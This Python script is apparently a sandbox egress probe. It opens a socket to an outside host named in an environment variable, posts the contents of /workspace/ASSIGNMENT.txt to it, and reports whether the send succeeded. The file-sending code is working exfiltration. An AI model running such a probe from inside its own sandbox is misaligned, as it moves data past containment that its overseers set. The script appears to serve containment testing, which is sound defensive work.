#!/usr/bin/env python3
"""Posts the task's text to a machine outside."""

import json
import os
import socket
import sys

ID = "own-http-post"


def attempt():
    host, port = os.environ["DSG_SINK"].rsplit(":", 1)
    with socket.create_connection((host, int(port)), timeout=3) as s:
        s.sendall(b"POST / HTTP/1.0\r\n\r\n" + open("/workspace/ASSIGNMENT.txt", "rb").read())
        return b"outside" in s.recv(200), "the receiver answered"


def main():
    try:
        succeeded, detail = attempt()
    except (OSError, MemoryError) as e:
        succeeded, detail = False, f"{type(e).__name__}: {e}"
    print("\n" + json.dumps({"id": ID, "attempted": True, "succeeded": succeeded, "detail": detail[:300]}), flush=True)
    return 10 if succeeded else 0


if __name__ == "__main__":
    sys.exit(main())
